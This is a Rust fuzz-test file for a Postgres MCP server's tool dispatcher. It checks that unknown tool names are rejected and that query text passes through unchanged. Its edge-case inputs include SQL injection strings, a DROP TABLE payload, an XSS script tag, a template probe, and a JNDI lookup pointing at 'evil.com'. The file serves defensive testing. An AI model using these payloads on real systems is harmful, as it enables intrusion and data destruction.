//! Randomized tests for tool-name routing and argument handling.
//!
//! These generate random and edge-case inputs to check that nothing outside
//! the three known tool names is ever routed, and that arbitrary statement
//! text is passed through untouched.

use pg_simple_mcp::db::QueryExecutor;
use pg_simple_mcp::error::{DbResult, ToolCallError};
use pg_simple_mcp::models::{JsonRow, QueryParam};
use pg_simple_mcp::tools::{ToolDispatcher, ToolKind};
use rand::Rng;
use rand::distributions::Alphanumeric;
use rmcp::model::JsonObject;
use serde_json::json;
use std::sync::{Arc, Mutex};

/// Generate random string of given length
fn random_string(len: usize) -> String {
    rand::thread_rng()
        .sample_iter(&Alphanumeric)
        .take(len)
        .map(char::from)
        .collect()
}

/// Generate various edge-case strings
fn edge_case_strings() -> Vec<String> {
    vec![
        " ".to_string(),                         // Single space
        "\n\r\t".to_string(),                    // Whitespace chars
        "\0".to_string(),                        // Null byte
        "🚀".repeat(100),                        // Unicode
        "'OR 1=1--".to_string(),                 // SQL injection
        "'; DROP TABLE users--".to_string(),     // SQL injection
        "<script>alert(1)</script>".to_string(), // XSS
        "a".repeat(10000),                       // Very long string
        random_string(1000),
        "\u{0000}\u{FFFF}".to_string(), // Special unicode
        "${jndi:ldap://evil.com/a}".to_string(),
        "{{7*7}}".to_string(),
    ]
}

#[derive(Default)]
struct CountingExecutor {
    statements: Mutex<Vec<String>>,
}

impl QueryExecutor for CountingExecutor {
    async fn fetch_rows(&self, sql: &str, _params: &[QueryParam]) -> DbResult<Vec<JsonRow>> {
        self.statements.lock().unwrap().push(sql.to_string());
        Ok(Vec::new())
    }
}

#[tokio::test]
async fn fuzz_unknown_tool_names() {
    let executor = Arc::new(CountingExecutor::default());
    let dispatcher = ToolDispatcher::new(executor.clone());
    let mut rng = rand::thread_rng();

    for _ in 0..500 {
        let len = rng.gen_range(0..40);
        let name = random_string(len);
        if ToolKind::from_name(&name).is_some() {
            continue;
        }

        let err = dispatcher
            .invoke(&name, &JsonObject::new())
            .await
            .unwrap_err();
        assert_eq!(err, ToolCallError::method_not_found(name.clone()));
        assert!(err.to_string().contains(&name));
    }

    assert!(executor.statements.lock().unwrap().is_empty());
}

#[tokio::test]
async fn fuzz_near_miss_tool_names() {
    let executor = Arc::new(CountingExecutor::default());
    let dispatcher = ToolDispatcher::new(executor.clone());

    for kind in ToolKind::ALL {
        let name = kind.name();
        let variants = [
            name.to_uppercase(),
            format!(" {}", name),
            format!("{} ", name),
            format!("{}_", name),
            name.replace('_', "-"),
            name[..name.len() - 1].to_string(),
        ];
        for variant in variants {
            let err = dispatcher
                .invoke(&variant, &JsonObject::new())
                .await
                .unwrap_err();
            assert!(matches!(err, ToolCallError::MethodNotFound { .. }));
        }
    }

    assert!(executor.statements.lock().unwrap().is_empty());
}

#[tokio::test]
async fn fuzz_query_text_passed_through() {
    let executor = Arc::new(CountingExecutor::default());
    let dispatcher = ToolDispatcher::new(executor.clone());

    let inputs = edge_case_strings();
    for sql in &inputs {
        let arguments = match json!({ "query": sql }) {
            serde_json::Value::Object(map) => map,
            _ => unreachable!(),
        };
        let result = dispatcher.invoke("run_sql_query", &arguments).await.unwrap();
        assert!(!result.is_error);
    }

    assert_eq!(*executor.statements.lock().unwrap(), inputs);
}
